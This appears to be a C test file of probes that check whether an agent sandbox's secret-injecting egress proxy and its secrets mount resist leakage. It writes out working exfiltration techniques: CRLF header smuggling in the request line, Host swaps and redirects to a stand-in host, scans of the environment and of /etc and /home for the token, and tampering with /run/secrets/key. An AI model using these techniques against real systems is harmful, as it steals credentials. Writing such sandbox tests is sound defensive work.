/* SPDX-License-Identifier: Apache-2.0
 * A secret that a program never sees: the agent `inject` reaches https://api.attacked.test:8443 as
 * http://api.inject, where the egress process puts the secret in. Outside there is no such thing:
 * there the program has the secret (HOST_TOKEN) and asks the same host on port 8088. */
#include <dirent.h>
#include <limits.h>
#include <sys/socket.h>

#include "speech.h"

/* The answer of the host to `start` with the header of a secret, where we have it; below 0: none.
 */
static long ask(const char* start, const char* host, char* answer, size_t size) {
  char text[1024];
  const char* key = getenv("HOST_TOKEN");
  int fd = connect_name("api.inject", "80");
  if (fd < 0) fd = connect_name("api.attacked.test", "8088");
  if (fd < 0) return -1;
  int length = snprintf(text, sizeof text, "GET %s HTTP/1.1\r\nHost: %s\r\n%s%s%s\r\n", start, host,
                        key ? "Authorization: Bearer " : "", key ? key : "", key ? "\r\n" : "");
  if (send(fd, text, (size_t)length, MSG_NOSIGNAL) < 0) return -1;
  size_t done = 0;
  for (ssize_t got; done < size - 1; done += (size_t)got) {
    got = recv(fd, answer + done, size - 1 - done, 0);
    answer[done + (got > 0 ? (size_t)got : 0)] = 0;
    if (got <= 0) break;
    const char* end = strstr(answer, "\r\n\r\n");
    if (end && (strstr(end, "0\r\n\r\n") || strstr(answer, "Content-Length"))) {
      done += (size_t)got;
      break;
    }
  }
  close(fd);
  answer[done] = 0;
  return (long)done;
}

/* The secret in an answer, whole or in the pieces of a chunked one. */
static enum state read_back(long how) {
  static const char* const paths[] = {"/echo", "/header", "/split"};
  static char answer[8192], joined[8192];
  char start[128];
  snprintf(start, sizeof start, "%s/%s", paths[how], current->name);
  long got = ask(start, "api.attacked.test:8443", answer, sizeof answer);
  if (got <= 0) return unavailable("the host of the secret does not answer");
  if (!strstr(answer, " 200 "))
    return snprintf(detail, sizeof detail, "%.60s", answer), UNAVAILABLE;
  size_t size = 0;
  for (const char* at = strstr(answer, "\r\n\r\n"); at && *at;) { /* chunks of five bytes */
    at += strspn(at, "\r\n");
    const char* next = strstr(at, "\r\n");
    unsigned part = (unsigned)strtoul(at, NULL, 16);
    if (!next || part == 0 || size + part >= sizeof joined) break;
    memcpy(joined + size, next + 2, part);
    size += part;
    at = next + 2 + part;
  }
  if (has_token(answer, (size_t)got) || (how == 2 && has_token(joined, size)))
    return through("the secret is in the answer");
  snprintf(detail, sizeof detail, "an answer without it");
  return BLOCKED;
}

/* To another host than that of the secret, or with more than the secret. */
static enum state send_elsewhere(long how) {
  static char answer[4096];
  char start[256];
  const char* host = "api.attacked.test:8443";
  const bool inside = !getenv("HOST_TOKEN");
  switch (how) {
    case 0:
      snprintf(start, sizeof start, "http://other.attacked.test/%s", current->name);
      break;
    case 1:
      snprintf(start, sizeof start, "/%s", current->name);
      host = "other.attacked.test";
      break;
    case 2:
      snprintf(start, sizeof start, "/redirect/%s", current->name);
      break;
    case 3:
      snprintf(start, sizeof start, "/%s HTTP/1.1\r\nAuthorization: Bearer mine", current->name);
      break;
    case 4:
      snprintf(start, sizeof start, "/%s HTTP/1.1\r\nauthorization : Bearer mine", current->name);
      break;
    default:
      snprintf(start, sizeof start, "//other.attacked.test/%s", current->name);
      break;
  }
  if (how == 3 || how == 4) strcat(start, "\r\nX-Rest: of");
  long got = ask(start, host, answer, sizeof answer);
  if (got < 0) return unavailable("the host of the secret does not answer");
  /* As a program would; inside, whoever follows must not be the egress process. */
  if (how == 2 && !strstr(answer, " 302 ")) return unavailable("no redirect");
  if (!inside && (how == 0 || how == 2 || how == 6))
    return exchange_as_usual(connect_name("other.attacked.test", "80"), "other.attacked.test",
                             "80");
  return tried();
}

static bool search(const char* directory, int depth, char* found) {
  DIR* list = opendir(directory);
  if (!list) return false;
  bool hit = false;
  for (struct dirent* entry; !hit && (entry = readdir(list)) != NULL;) {
    static char text[65536];
    char path[PATH_MAX];
    if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
    snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
    if (entry->d_type == DT_DIR && depth > 0) hit = search(path, depth - 1, found);
    if (entry->d_type != DT_REG) continue;
    long size = slurp(path, text, sizeof text);
    hit = size > 0 && has_token(text, (size_t)size);
    if (hit) snprintf(found, 150, "%.140s", path);
  }
  closedir(list);
  return hit;
}

/* Files, and of every process what it was started with. */
static enum state look_for_it(long how) {
  static const char* const places[] = {"/run", "/tmp", "/work", "/etc", "/dev/shm", "/home"};
  char found[160] = "";
  extern char** environ;
  if (how == 0) {
    for (char** at = environ; *at; ++at)
      if (has_token(*at, strlen(*at))) return through("%.40s", *at);
  } else {
    for (size_t i = 0; i < sizeof places / sizeof *places; ++i)
      if (search(places[i], 3, found)) return through("%s", found);
  }
  snprintf(detail, sizeof detail, "nowhere");
  return BLOCKED;
}

/* A secret that is a file inside: the agent `keys` has it at /run/secrets/key. */
static enum state change_file(long how) {
  const char *file = "/run/secrets/key", *copy = "/work/secret-key";
  if (access(file, F_OK) < 0) return unavailable("there is none");
  switch (how) {
    case 0:
      return open_for_writing(file);
    case 1:
      return expect_failure(unlink(file), "unlink");
    case 2:
      return expect_failure(chmod(file, 0666), "chmod");
    default: /* a name on the disk of the host */
      return expect_failure(link(file, copy), "link");
  }
}
static enum state read_of_another(long unused) {
  (void)unused;
  return read_token(AT_FDCWD, "/run/secrets/key");
}

#define BACK(name, how, what) \
  { name, what, read_back, how, INJECT, 0 }
#define ELSEWHERE(name, how, what) \
  { name, what, send_elsewhere, how, INJECT, 0 }
static const struct probe table[] = {
    BACK("secret-inject-echo", 0, "has the host repeat the secret"),
    BACK("secret-inject-header", 1, "has the host repeat the secret in a header"),
    BACK("secret-inject-split", 2, "has the host repeat the secret in pieces"),
    ELSEWHERE("secret-inject-absolute", 0, "an absolute form with another host"),
    ELSEWHERE("secret-inject-host", 1, "another Host"),
    ELSEWHERE("secret-inject-redirect", 2, "a redirect to another host"),
    ELSEWHERE("secret-inject-own", 3, "a header of its own beside that of the secret"),
    ELSEWHERE("secret-inject-space", 4, "the same with a space before the colon"),
    ELSEWHERE("secret-inject-slashes", 6, "a path that begins with another host"),
    {"secret-inject-environ", "the environment", look_for_it, 0, INJECT, 0},
    {"secret-inject-files", "all files that it can read", look_for_it, 1, INJECT, 0},
    {"secret-file-write", "changes a secret that is a file", change_file, 0, SECRETS, 0},
    {"secret-file-chmod", "shows it to everybody", change_file, 2, SECRETS, 0},
    {"secret-file-other", "reads the secret of another agent", read_of_another, 0, 0, 0},
    {"secret-file-unlink", "removes it", change_file, 1, SECRETS, 0},
};
PROBES(secrets_inject, table);
